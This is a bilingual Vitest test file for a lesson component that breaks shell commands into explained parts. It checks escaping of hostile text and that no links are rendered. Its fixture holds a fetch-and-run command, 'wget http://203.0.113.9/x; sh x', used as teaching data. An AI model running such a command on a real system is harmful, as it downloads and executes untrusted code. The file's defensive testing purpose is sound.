import { describe, expect, test } from 'vitest';
import { drawn } from '../../../tests/fixtures/hostile-component.ts';
import { HOSTILE, shownAs } from '../../../tests/fixtures/hostile.ts';
import type { Command } from '../../lib/lesson/command-schema.ts';
import Apart from './Apart.astro';

const both = (text: string) => ({ ja: text, en: text });
const FETCH: Command = {
  title: { ja: '取って動かす', en: 'Fetch and run' },
  command: 'cd /tmp; wget http://203.0.113.9/x; sh x',
  parts: [
    { text: 'cd /tmp', says: { ja: '`/tmp` に移ります。', en: 'Goes to `/tmp`.' } },
    { text: 'wget http://203.0.113.9/x', says: { ja: '取ります。', en: 'Fetches it.' } },
    { text: 'sh x', says: { ja: '動かします。', en: 'Runs it.' } },
  ],
};
const box = (command: Command, locale = 'en') => drawn(Apart, { command, locale });
const texts = (root: ParentNode, selector: string) =>
  [...root.querySelectorAll(selector)].map((each) => each.textContent.replaceAll(/\s+/g, ' ').trim());

describe('a command taken apart', () => {
  test('asks before it tells: the whole command, the question, then the pieces in order, all closed', async () => {
    const root = await box(FETCH);
    expect(texts(root, 'section > p')).toEqual([
      'A command taken apart: Fetch and run',
      FETCH.command,
      'Where does it want us to go next? And what is left when it is done?',
      'Say it for yourself first, then press each piece.',
    ]);
    expect(texts(root, 'summary')).toEqual(FETCH.parts.map(({ text }) => text));
    expect(texts(root, 'details > p')).toEqual(['Goes to /tmp.', 'Fetches it.', 'Runs it.']);
    expect(root.querySelector('details[open]')).toBeNull();
  });

  test('speaks Japanese too', async () => {
    const root = await box(FETCH, 'ja');
    expect(texts(root, 'strong')).toEqual(['次にどこへ行かせたいか。終わったあと、何が残るか。']);
    expect(texts(root, 'details > p')[0]).toBe('/tmp に移ります。');
  });

  test('makes no address one that can be pressed', async () => {
    expect((await box(FETCH)).querySelector('a, [href]:not(link)')).toBeNull();
  });

  test('refuses parts that leave something unexplained', async () => {
    await expect(box({ ...FETCH, parts: FETCH.parts.slice(1) })).rejects.toThrow('left-over');
  });

  test('shows a hostile text for what it is', async () => {
    for (const { text } of HOSTILE) {
      const command = `echo ${text}; ls`;
      const parts = [
        { text: `echo ${text}`, says: both(text) },
        { text: 'ls', says: both('ls') },
      ];
      const root = await box({ title: both(text), command, parts });
      expect(root.querySelector('section > p > code')?.textContent.trim()).toBe(shownAs(command).trim());
      expect(root.querySelector('script, img, iframe, style, form, svg, a')).toBeNull();
    }
  });
});
